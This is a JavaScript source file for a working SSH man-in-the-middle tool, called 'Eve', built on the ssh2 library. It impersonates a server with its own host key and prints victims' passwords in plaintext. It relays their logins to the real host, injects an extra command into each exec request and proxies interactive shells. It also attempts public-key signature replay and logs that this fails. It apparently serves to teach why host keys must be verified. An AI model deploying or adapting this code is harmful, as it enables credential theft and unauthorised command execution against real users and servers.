/**
 * Eve in the middle. Towards the laptop she is a server with a host key of her own; towards the machine she is a client.
 * What passes she reads, and she adds a command. What she cannot pass on is a public-key login: its signature is over the
 * identifier of the session that it was made in (RFC 4252, section 7), and her two sessions have two.
 */
import { createHash } from "node:crypto";
import ssh2 from "ssh2";

const { BaseAgent, Client, Server, utils } = ssh2;
const host = process.env.EVE_TARGET;
const injected = "echo 'Eve was here' > eve-was-here";

/** Her journal. What strangers sent stays on one line. */
const say = (text) => {
  process.stdout.write(`eve: ${text.replace(/\p{Cc}/gu, "?")}\n`);
};

/** RFC 4252, section 7: what is signed begins with the session identifier, a string. */
const sessionOf = (signed) =>
  signed
    .subarray(4, 4 + signed.readUInt32BE(0))
    .toString("hex")
    .slice(0, 16);

/** Logs in at the machine. @returns the connection, or undefined when it refuses */
function logIn(options) {
  return new Promise((resolve) => {
    const client = new Client();
    client.on("ready", () => {
      resolve(client);
    });
    client.on("error", () => {
      resolve(undefined);
    });
    client.on("close", () => {
      resolve(undefined);
    });
    client.connect({ host, port: 22, readyTimeout: 10_000, hostVerifier: () => true, ...options });
  });
}

/** An agent that has somebody's signature, and hands it out whatever it is asked to sign. */
class Replay extends BaseAgent {
  constructor(key, signature, hears) {
    super();
    Object.assign(this, { key, signature, hears });
  }
  getIdentities(callback) {
    callback(undefined, [this.key]);
  }
  sign(_key, wanted, options, callback) {
    this.hears(wanted);
    (typeof options === "function" ? options : callback)(undefined, this.signature);
  }
}

const fingerprintOf = (key) => `SHA256:${createHash("sha256").update(key).digest("base64").replace(/=+$/, "")}`;

async function replay(attempt) {
  const key = utils.parseKey(Buffer.from(`${attempt.key.algo} ${attempt.key.data.toString("base64")}`));
  if (key instanceof Error) return;
  say(`${attempt.username}'s signature is over the session ${sessionOf(attempt.blob)}…, the one with me`);
  const agent = new Replay(key, attempt.signature, (wanted) => {
    say(`the machine wants one over the session ${sessionOf(wanted)}…, its own with me; I send the one I have`);
  });
  const upstream = await logIn({ username: attempt.username, agent });
  say(upstream === undefined ? "the machine refuses it: a public-key login cannot be passed on" : "the machine takes it");
  upstream?.end();
}

/** Decides on one attempt to log in. @param connected is given the connection to the machine, before the client hears of it */
async function decide(attempt, connected) {
  if (attempt.method === "publickey") {
    if (attempt.signature === undefined) {
      say(`${attempt.username} offers the public key ${fingerprintOf(attempt.key.data)}`);
      attempt.accept(); // the probe: yes, show me your signature
      return;
    }
    await replay(attempt);
  }
  if (attempt.method === "password") {
    say(`password of ${attempt.username}: ${attempt.password}`);
    const upstream = await logIn({ username: attempt.username, password: attempt.password });
    if (upstream !== undefined) {
      connected(upstream);
      attempt.accept();
      return;
    }
  }
  attempt.reject(["publickey", "password"]);
}

function passOn(downstream, upstream) {
  downstream.on("session", (accept) => {
    const session = accept();
    session.on("pty", (acceptPty) => acceptPty?.());
    // She says yes at once: a client whose input has ended is not asked again.
    session.on("exec", (acceptExec, _reject, { command }) => {
      say(`read the command: ${command}`);
      say(`added one of my own: ${injected}`);
      const here = acceptExec();
      upstream.exec(`${injected}; ${command}`, (_error, there) => {
        join(here, there);
      });
    });
    session.on("shell", (acceptShell) => {
      say("a shell: everything typed goes through me");
      const here = acceptShell();
      upstream.shell((_error, there) => {
        join(here, there);
      });
    });
  });
}

function join(here, there) {
  if (there === undefined) {
    here.exit(1);
    here.end();
    return;
  }
  here.pipe(there);
  // The end of the output comes before the exit status: the channel is closed when both are through.
  there.pipe(here, { end: false });
  there.stderr.pipe(here.stderr, { end: false });
  there.on("exit", (status) => {
    if (typeof status === "number") here.exit(status);
  });
  there.on("close", () => here.end());
}

const server = new Server({ hostKeys: [utils.generateKeyPairSync("ed25519").private] }, (downstream) => {
  let upstream;
  downstream.on("authentication", (attempt) => {
    decide(attempt, (connection) => (upstream = connection)).catch(() => attempt.reject());
  });
  downstream.on("ready", () => {
    if (upstream !== undefined) passOn(downstream, upstream);
  });
  downstream.on("error", () => upstream?.end());
  downstream.on("close", () => upstream?.end());
});

server.listen(22, "0.0.0.0", () => {
  say(`I listen where ${process.env.EVE_NAME} leads, with a host key of my own`);
});
